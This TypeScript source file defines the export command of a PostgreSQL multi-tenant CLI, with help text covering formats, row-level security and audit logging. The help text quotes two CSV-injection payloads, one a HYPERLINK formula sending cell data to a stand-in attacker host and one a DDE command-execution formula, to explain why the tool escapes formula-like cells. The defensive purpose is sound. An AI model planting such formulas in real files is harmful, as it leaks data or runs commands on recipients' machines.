import { once } from 'node:events';

import { Command, Option } from 'commander';

import { PgferryError } from '../errors.js';
import { EXPORT_FORMATS, formatFromPath } from '../export/export-format.js';
import { splitColumnList } from '../export/export-query.js';
import { type ExportResult, exportRows } from '../export/export-rows.js';
import { rowCounter } from '../report/row-counter.js';
import { formatNumber } from '../report/text-table.js';
import { type GlobalOptions, stdio, withDatabase } from './context.js';

export function exportCommand(global: () => GlobalOptions): Command {
  return new Command('export')
    .description(
      "write a tenant's own rows of a protected table, or of a query, as csv, tsv, xlsx, json, ndjson, xml or sql",
    )
    .requiredOption('-t, --tenant <tenant>', 'tenant whose rows to export (the export runs as its role)')
    .option('--table <table>', 'a protected table, e.g. app.products (its tenant column is left out)')
    .option('--where <condition>', 'with --table: which rows, in SQL, e.g. "price > 10"')
    .option(
      '--columns <names>',
      'with --table: which columns, in order, comma-separated (quote as in SQL: "Item Code")',
    )
    .option('--query <select>', 'instead of --table: one SELECT, VALUES, TABLE or WITH … SELECT statement')
    .addOption(
      new Option('--format <format>', "output format (default: from -o's extension, else csv)").choices(EXPORT_FORMATS),
    )
    .option('--gzip', 'compress with gzip (default when -o ends in .gz)')
    .option('-o, --output <file>', 'write to this file (default: standard output)')
    .option('--raw', "write formula-like text as it is (no leading ' in csv, tsv and xlsx)")
    .addHelpText(
      'after',
      `
The export runs as the tenant's role under row-level security, inside a function the tenant
owns, in a read-only transaction: whatever --where or --query say, it sees only the tenant's
rows and changes nothing. An export of --table leaves out the tenant column (a load into
another tenant adds its own) unless --columns names it, and lists rows in primary key order.

Values are PostgreSQL's text (dates and timestamps ISO). csv and tsv: a header line, NULL as
an empty field, the empty string as "". json and ndjson: numbers as JSON numbers with every
digit, json/jsonb embedded, NULL as null. xml: <export><row><column>…</column></row></export>,
NULL as a missing element (a value holding a control character XML cannot carry fails the
export). sql: INSERT statements of 500 rows. xlsx: one sheet, numbers as numbers where a
spreadsheet keeps them exact, everything else as text.

Formulas: a spreadsheet runs a cell such as =HYPERLINK("http://evil.example/?"&A1,"open") or
=cmd|' /C calc'!A0 as a formula when someone opens the file in Excel or LibreOffice (CSV
injection). So in csv, tsv and xlsx a text value starting with =, +, -, @, TAB or CR gets a
leading ' (plain numbers such as -12.5 excepted). --raw turns that off, for files read by
programs (a load back into PostgreSQL, say), not people.

A file is written under a temporary name and renamed when complete: a failed export leaves
nothing behind. Each export is recorded in the audit log. Exit codes: 0 exported, 1 failed
(the database went away), 2 bad usage or input (unknown tenant, table or column, bad SQL,
an output that cannot be written).

Examples:
  pgferry export -t acme --table app.products -o products.csv
  pgferry export -t acme --table app.products --where "updated_at > now() - interval '7 days'" -o recent.xlsx
  pgferry export -t acme --table app.products --columns sku,price --format ndjson | jq .
  pgferry export -t acme --query "select sku, sum(quantity) from app.orders group by sku" -o totals.json.gz`,
    )
    .action(async (opts) => {
      const toFile = typeof opts.output === 'string';
      const format = opts.format ?? (toFile ? formatFromPath(opts.output).format : undefined) ?? 'csv';
      const gzip = Boolean(opts.gzip) || (toFile && formatFromPath(opts.output).gzip);
      if (!toFile && process.stdout.isTTY && (format === 'xlsx' || gzip)) {
        throw new PgferryError(`refusing to write ${gzip ? 'gzipped' : 'xlsx'} data to a terminal`, {
          hint: 'write it to a file with -o FILE, or pipe it',
        });
      }
      const progress = toFile && process.stderr.isTTY ? rowCounter('exporting') : undefined;
      let result: ExportResult;
      try {
        result = await withDatabase(global(), (db) =>
          exportRows(db.pool, {
            tenant: opts.tenant,
            table: opts.table,
            where: opts.where,
            columns: opts.columns === undefined ? undefined : splitColumnList(opts.columns),
            query: opts.query,
            format,
            gzip,
            raw: opts.raw,
            output: toFile ? opts.output : process.stdout,
            onProgress: progress?.update,
          }),
        );
      } catch (error) {
        // The reader of stdout stopped reading (`| head`): that ends the export, quietly.
        if (!toFile && (error as NodeJS.ErrnoException).code === 'EPIPE') return;
        throw error;
      } finally {
        progress?.done();
      }
      if (toFile) {
        stdio.out(
          `${formatNumber(result.rows)} row${result.rows === 1 ? '' : 's'} of ${result.table ?? 'the query'} ` +
            `for tenant ${opts.tenant} written to ${opts.output} (${format}${gzip ? ', gzip' : ''})`,
        );
      } else if (process.stdout.writableLength > 0) {
        await once(process.stdout, 'drain');
      }
    });
}

/** `exporting  12,345 rows` on stderr, redrawn at most every 100 ms. */
